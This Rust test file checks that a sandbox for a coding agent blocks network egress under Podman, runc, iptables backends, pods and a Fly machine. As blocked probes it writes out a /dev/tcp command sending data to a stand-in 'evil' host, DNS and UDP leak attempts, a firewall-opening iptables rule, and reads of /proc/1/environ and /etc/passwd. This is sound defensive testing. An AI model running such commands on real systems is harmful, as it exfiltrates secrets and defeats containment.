//! The box under the engines beside Docker: Podman, runc alone, and what a pod does to it.

#[cfg(test)]
#[path = "support/rig.rs"]
mod rig;

#[cfg(test)]
mod engines {
    use std::io::Write;
    use std::path::PathBuf;

    use serde_json::{Value, json};

    use crate::rig::{
        AGENT, BoxOptions, CAPABILITIES, Done, OAUTH_TOKEN, PATIENCE, ROOT, Rig, RunningBox, host, image,
        must, run,
    };

    /// The promise in short: what is allowed works, nothing else leaves, and everything is proven.
    fn keeps_the_promise(rig: &Rig, guest: &RunningBox) {
        let status = guest.status();
        let protections = status["protections"].as_array().unwrap();
        assert_eq!(protections.len(), 8, "{status}");
        for protection in protections {
            assert_eq!(protection["held"], Value::Bool(true), "{protection}");
        }
        assert!(guest.exec_agent("curl -sS -m 10 http://ok.test/").out.contains("token-"));
        let mark = rig.world.sync();
        for user in [AGENT, ROOT] {
            assert!(!guest.client(user, &["tcp", &host("evil"), "443", "leak"]).ok());
            assert!(!guest.client(user, &["udp", &host("evil"), "443", "leak"]).ok());
            assert_eq!(guest.client(user, &["dns", "9.9.9.53", "leak.evil.test"]).out, "NXDOMAIN\n");
        }
        let session = guest.client_as_session(&["tcp", &host("evil"), "443", "leak"]);
        assert!(!session.ok(), "{session:?}");
        let out = rig.world.packets_since(mark);
        assert!(out.iter().all(|packet| packet["dst"] != host("evil")), "{out:?}");
        assert!(!rig.world.saw("leak"));
    }

    fn podman_is_here() -> bool {
        let here = run("podman", &["--version"]).ok();
        assert!(here || std::env::var_os("CI").is_none(), "CI must run the tests with podman");
        if !here {
            std::io::stderr().write_all(b"SKIPPED: needs podman\n").unwrap();
        }
        here
    }

    #[test]
    fn podman_gives_the_same_box() {
        let Some(rig) = Rig::new().filter(|_| podman_is_here()) else { return };
        let evil = ["tcp", &host("evil"), "443", "before"];
        assert!(rig.outside(&evil).ok());
        let guest = rig.boot(&BoxOptions::new().podman());
        keeps_the_promise(&rig, &guest);
        guest.attach_and_leave("/");
        assert_eq!(guest.stop(), 143);
    }

    /// The least privileges that the design asks for, as README prints them.
    #[test]
    fn podman_gives_the_same_box_read_only_and_without_sys_admin() {
        let Some(rig) = Rig::new().filter(|_| podman_is_here()) else { return };
        let guest = rig.boot(&BoxOptions::new().podman().least());
        keeps_the_promise(&rig, &guest);
        assert_eq!(guest.stop(), 143);
    }

    /// What a rootless engine gives: root of a user namespace, which is nobody on the host, in a network that belongs to
    /// it; the network comes while the box runs.
    #[test]
    fn podman_in_a_user_namespace_gives_the_same_box() {
        let Some(rig) = Rig::new().filter(|_| podman_is_here()) else { return };
        let mapped = ["--uidmap", "0:200000:65536", "--gidmap", "0:200000:65536"];
        let guest = rig.boot(&BoxOptions::new().podman().docker(&mapped).network("none"));
        let map = std::fs::read_to_string(format!("/proc/{}/uid_map", guest.pid())).unwrap();
        assert_eq!(map.split_whitespace().collect::<Vec<_>>(), ["0", "200000", "65536"]);
        rig.plug_into(&guest);
        guest.await_status("an address", |status| {
            status["firewall"]["addresses"].to_string().contains("ok.test")
        });
        keeps_the_promise(&rig, &guest);
        // Refused packets are listed there too.
        guest.await_status("a denial", |status| status["denials"].to_string().contains(&host("evil")));
        assert_eq!(guest.stop(), 143);
    }

    /// A box that runc starts by a configuration of its own, as containerd does it: no engine looks after it.
    struct Bundle {
        id: String,
        dir: PathBuf,
        log: PathBuf,
    }

    impl Bundle {
        fn start(rig: &Rig) -> Self {
            let (id, dir) = (format!("{}-runc", rig.name), rig.dir.join("bundle"));
            for part in ["rootfs", "upper", "work"] {
                std::fs::create_dir_all(dir.join(part)).unwrap();
            }
            let layer = |which: &str| {
                let format = format!("{{{{ .GraphDriver.Data.{which} }}}}");
                must("docker", &["image", "inspect", "-f", &format, &image()]).trim().to_owned()
            };
            let at = |part: &str| dir.join(part).display().to_string();
            let (lower, upper, work) =
                (format!("{}:{}", layer("UpperDir"), layer("LowerDir")), at("upper"), at("work"));
            let options = format!("lowerdir={lower},upperdir={upper},workdir={work}");
            rig.at_end(&["umount", "-l", &at("rootfs")]);
            must("mount", &["-t", "overlay", "overlay", "-o", &options, &at("rootfs")]);
            std::fs::write(dir.join("rootfs/etc/resolv.conf"), "nameserver 9.9.9.53\n").unwrap();
            let network = format!("/proc/{}/ns/net", rig.pause_pid);
            let config = serde_json::to_vec_pretty(&config(&network)).unwrap();
            std::fs::write(dir.join("config.json"), config).unwrap();
            let log = dir.join("log");
            rig.at_end(&["runc", "delete", "--force", &id]);
            let bundle = Self { id, dir, log };
            let script = "exec runc run --detach --bundle \"$0\" \"$1\" >\"$2\" 2>&1";
            let (place, log) = (bundle.dir.display().to_string(), bundle.log.display().to_string());
            let started = run("sh", &["-c", script, &place, &bundle.id, &log]);
            assert!(started.ok(), "{}", bundle.said());
            bundle
        }

        fn said(&self) -> String {
            std::fs::read_to_string(&self.log).unwrap()
        }

        fn await_line(&self, line: &str) {
            let (limit, log) = (PATIENCE.as_secs().to_string(), self.log.display().to_string());
            let follow = "tail -n +1 -F \"$0\" | grep -q -m 1 -F -- \"$1\"";
            let found = run("timeout", &[&limit, "bash", "-c", follow, &log, line]);
            assert!(found.ok(), "no {line:?}: {}", self.said());
        }

        fn exec(&self, user: &str, command: &str) -> Done {
            run("runc", &["exec", "--user", user, &self.id, "/bin/bash", "-c", command])
        }
    }

    /// The least that the box needs: capabilities, file systems, namespaces; the root file system is read-only.
    fn config(network: &str) -> Value {
        let capabilities: Vec<String> = CAPABILITIES.iter().map(|name| format!("CAP_{name}")).collect();
        let mount = |to: &str, kind: &str, options: &[&str]| json!({ "destination": to, "type": kind, "source": kind, "options": options });
        let place = |to: &str, mode: &str| mount(to, "tmpfs", &["nosuid", "nodev", mode]);
        let env = [
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "LANG=C.UTF-8",
            &format!("CLAUDE_CODE_OAUTH_TOKEN={OAUTH_TOKEN}"),
            "INNKEEPER_NETWORK_ALLOW=ok.test:80",
            "INNKEEPER_SESSION_COMMAND=/bin/sleep\ninfinity",
        ];
        json!({
            "ociVersion": "1.0.2",
            "process": {
                "terminal": false, "user": { "uid": 0, "gid": 0 }, "cwd": "/", "env": env,
                "args": ["/usr/local/bin/innkeeper", "init"], "noNewPrivileges": true,
                "capabilities": {
                    "bounding": capabilities, "effective": capabilities, "permitted": capabilities
                },
            },
            "root": { "path": "rootfs", "readonly": true },
            "hostname": "box",
            "mounts": [
                mount("/proc", "proc", &[]),
                mount("/dev", "tmpfs", &["nosuid", "mode=755"]),
                mount("/dev/pts", "devpts", &["nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"]),
                mount("/dev/shm", "tmpfs", &["nosuid", "noexec", "nodev", "mode=1777"]),
                mount("/sys", "sysfs", &["nosuid", "noexec", "nodev", "ro"]),
                // As a kubelet makes an emptyDir: everybody may write.
                place("/run", "mode=777"), place("/tmp", "mode=777"), place("/workspace", "mode=777"),
                place("/home/claude", "mode=777"),
            ],
            "linux": {
                "namespaces": [
                    { "type": "pid" }, { "type": "ipc" }, { "type": "uts" }, { "type": "mount" },
                    { "type": "network", "path": network },
                ],
                "readonlyPaths": ["/proc/sys", "/proc/bus", "/proc/fs", "/proc/irq", "/proc/sysrq-trigger"],
            },
        })
    }

    /// A box whose firewall is iptables keeps the promise, follows the operator, and undoes what root does to its chains.
    fn by_iptables(rig: &Rig, options: &BoxOptions, backend: &str, program: &str) {
        let evil = ["tcp", &host("evil"), "443", "before"];
        assert!(rig.outside(&evil).ok());
        let guest = rig.boot(options);
        assert_eq!(guest.status()["firewall"]["backend"], backend);
        keeps_the_promise(rig, &guest);
        assert!(guest.status()["firewall"]["denied"].as_u64().unwrap() >= 4);
        let tamper = format!("{program} -I OUTPUT 1 -j ACCEPT");
        rig.inside(&tamper).expect("root opens everything");
        guest.await_status("the repair", |status| {
            status["warnings"].to_string().contains("somebody changed the chains INNKEEPER-*")
        });
        assert!(!guest.client(ROOT, &["tcp", &host("evil"), "443", "leak"]).ok());
        guest.innkeeper(&["revoke", "ok.test:80"]).expect("revoke");
        assert!(!guest.client(AGENT, &["tcp", &host("ok"), "80", "leak"]).ok());
        assert_eq!(guest.stop(), 143);
        assert!(!rig.outside(&evil).ok(), "after the box the network is still closed");
    }

    #[test]
    fn t46_by_iptables_with_ipset_the_box_is_the_same() {
        let Some(rig) = Rig::new() else { return };
        let options = BoxOptions::new().env("INNKEEPER_NETWORK_BACKEND", "iptables");
        by_iptables(&rig, &options, "iptables (nf_tables), ipset", "iptables-nft");
    }

    /// ipset asks for `NET_RAW`, which the least privileges do not have.
    #[test]
    fn t46_by_iptables_with_plain_rules_the_box_is_the_same() {
        let Some(rig) = Rig::new() else { return };
        let options = BoxOptions::new().least().env("INNKEEPER_NETWORK_BACKEND", "iptables");
        by_iptables(&rig, &options, "iptables (nf_tables), plain rules", "iptables-nft");
    }

    /// No netfilter netlink socket can be made, as on a kernel without nf_tables: not even the lockdown is nftables'.
    #[test]
    fn t46_by_the_legacy_iptables_the_box_is_the_same() {
        let Some(rig) = Rig::new() else { return };
        let equal = |index: u32, value: u32| json!({ "index": index, "value": value, "op": "SCMP_CMP_EQ" });
        // socket(AF_NETLINK, …, NETLINK_NETFILTER) gives EPROTONOSUPPORT.
        let refusal = json!({ "names": ["socket"], "action": "SCMP_ACT_ERRNO", "errnoRet": 93,
            "args": [equal(0, 16), equal(2, 12)] });
        let profile = json!({ "defaultAction": "SCMP_ACT_ALLOW", "syscalls": [refusal] });
        let profile = format!("seccomp={}", rig.file("no-nf_tables.json", &profile.to_string()).display());
        let options = BoxOptions::new().docker(&["--security-opt", &profile]);
        by_iptables(&rig, &options, "iptables (legacy), plain rules", "iptables-legacy");
    }

    #[test]
    fn runc_alone_gives_the_same_box() {
        let Some(rig) = Rig::new() else { return };
        let evil = ["tcp", &host("evil"), "443", "before"];
        assert!(rig.outside(&evil).ok());
        let bundle = Bundle::start(&rig);
        bundle.await_line("boot: ready after");
        assert!(bundle.exec("1000", "curl -sS -m 10 http://ok.test/").out.contains("token-"));
        let mark = rig.world.sync();
        for user in ["1000", "0"] {
            // The gate takes the connection; whose octets come back is what counts.
            let knock = format!("exec 3<>/dev/tcp/{}/443 && echo leak >&3; timeout 5 cat <&3", host("evil"));
            let said = bundle.exec(user, &knock);
            assert!(!said.out.contains("token-"), "{said:?}");
        }
        assert!(rig.world.packets_since(mark).iter().all(|packet| packet["dst"] != host("evil")));
        let status = bundle.exec("0", "innkeeper status --json").expect("status");
        let status: Value = serde_json::from_str(&status).unwrap();
        let held = status["protections"].as_array().unwrap();
        assert!(held.len() == 8 && held.iter().all(|protection| protection["held"] == true), "{status}");
        let modes = bundle.exec("0", "stat -c '%a %U %n' /run /tmp /workspace /home/claude").expect("stat");
        assert_eq!(modes, "755 root /run\n1777 root /tmp\n755 claude /workspace\n700 claude /home/claude\n");
        must("runc", &["kill", &bundle.id, "TERM"]);
        bundle.await_line("(exit status 143)");
    }

    /// A pod: one network and one pid namespace for all, and the box is not pid 1 of it.
    #[test]
    fn t201_a_pod_with_shared_network_and_processes_keeps_the_sidecar_from_the_agent() {
        let Some(rig) = Rig::new() else { return };
        // The pause container plays the pod: its processes are the sidecar's.
        let serve = "import socket, sys, threading\ns = socket.create_server(('127.0.0.1', 15000))\n\
                     def answer():\n while True:\n  c, _ = s.accept(); c.sendall(b'sidecar'); c.close()\n\
                     threading.Thread(target=answer, daemon=True).start()\nprint('up', flush=True)\nsys.stdin.read()";
        let mut sidecar = rig.spawn_inside(&["python3", "-c", serve]);
        assert_eq!(sidecar.hear(), "up");
        let read = "curl -sS -m 5 --http0.9 http://127.0.0.1:15000/";
        assert_eq!(rig.in_pause(read).out, "sidecar", "open before there is a box");
        let pid = format!("container:{}", rig.pause);
        let guest = rig.boot(&BoxOptions::new().docker(&["--pid", &pid]).args(&["init"]));
        keeps_the_promise(&rig, &guest);
        assert_ne!(guest.exec_agent("cat /proc/1/comm").out, "innkeeper\n");
        for done in [guest.exec_agent(read), guest.as_session(read), guest.exec_root(read)] {
            assert!(!done.ok() && !done.out.contains("sidecar"), "{done:?}");
        }
        assert!(guest.status()["warnings"].to_string().contains("15000"));
        // Processes of others are no business of the agent's.
        let others = guest.as_session("kill -9 1 || cat /proc/1/environ || cat /proc/1/root/etc/passwd");
        assert!(!others.ok() && others.out.is_empty(), "{others:?}");
        guest.stop();
        assert!(rig.in_pause("true").ok(), "the pod lives on");
        let left = rig.in_pause("ps -eo user,comm").out;
        assert!(!left.contains("claude") && !left.contains("innkeeper"), "{left}");
        // What the box leaves behind is closed.
        assert!(!rig.outside(&["tcp", &host("evil"), "443", "leak"]).ok());
        sidecar.end();
    }

    /// Answers every line with the same line, over IPv6, to who connects; the platform's SSH server is such a thing.
    const SHELL: &str = "import socket, sys, threading
s = socket.create_server((sys.argv[1], 22), family=socket.AF_INET6)
def talk(c):
 f = c.makefile('rw')
 for line in f: f.write(line); f.flush()
def answer():
 while True: threading.Thread(target=talk, args=(s.accept()[0],), daemon=True).start()
threading.Thread(target=answer, daemon=True).start()
print('up', flush=True)
sys.stdin.read()";

    /// Sends every line of standard input and prints what comes back.
    const OPERATOR: &str = "import socket, sys
f = socket.create_connection((sys.argv[1], 22), 5).makefile('rw')
print('connected', flush=True)
for line in sys.stdin:
 f.write(line); f.flush(); print(f.readline(), end='', flush=True)";

    /// Played: not pid 1, Fly's variable and directory, its SSH server beside the box, operators on the private
    /// network and on the public prefix, and no connection tracking for IPv6.
    #[test]
    fn on_a_fly_machine_ssh_keeps_working_and_the_private_network_is_closed() {
        let Some(rig) = Rig::new() else { return };
        let (box6, operators) = ("fdaa:0:18:a7b::2", ["fdaa:0:18:a7b::1", "2605:4c40:1::1"]);
        rig.inside(&format!(
            "ip -6 addr add {box6}/64 dev eth0 nodad; ip -6 route add 2605:4c40::/32 dev eth0"
        ))
        .expect("the machine's private address");
        for operator in operators {
            rig.in_world(&format!("ip -6 addr add {operator}/64 dev world0 nodad")).expect("an operator");
        }
        rig.in_world(&format!("ip -6 route replace {box6} dev world0 table local src {}", operators[0]))
            .expect("a route");
        for hook in ["output", "prerouting"] {
            let chain =
                format!("nft add chain inet blind {hook} '{{ type filter hook {hook} priority raw; }}'");
            let rule = format!("nft add rule inet blind {hook} meta nfproto ipv6 notrack");
            rig.inside(&format!("nft add table inet blind; {chain}; {rule}")).expect("no tracking");
        }
        let mut server = rig.spawn_inside(&["python3", "-c", SHELL, box6]);
        assert_eq!(server.hear(), "up");
        let operator = |rig: &Rig| {
            let mut operator = rig.spawn_in_world(&["python3", "-c", OPERATOR, box6]);
            assert_eq!(operator.hear(), "connected");
            operator
        };
        let mut older = operator(&rig);
        let fly = rig.dir.join("fly");
        std::fs::create_dir_all(&fly).unwrap();
        let door = std::os::unix::net::UnixListener::bind(fly.join("api")).unwrap();
        let volume = format!("{}:/.fly", fly.display());
        let options = BoxOptions::new().docker(&["--init"]).volume(&volume).env("FLY_MACHINE_ID", "17811953");
        let guest = rig.boot(&options.args(&["init"]));
        keeps_the_promise(&rig, &guest);
        rig.in_world(&format!("ip -6 route replace {box6} dev world0 table local src {}", operators[1]))
            .expect("a route");
        for operator in [&mut older, &mut operator(&rig)] {
            operator.say("ls");
            assert_eq!(operator.hear(), "ls");
        }
        // The agent gets nothing of it: not the server, nor the network behind it, nor the platform's own door.
        for address in [box6, operators[0], operators[1]] {
            for port in ["22", "443"] {
                assert!(!guest.client(AGENT, &["tcp", address, port, "leak"]).ok(), "{address} {port}");
            }
        }
        assert!(!rig.world.saw("leak"));
        let api = "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"/.fly/api\")'";
        assert!(!guest.exec_agent(api).ok() && !guest.as_session(api).ok());
        drop(door);
        server.end();
    }
}
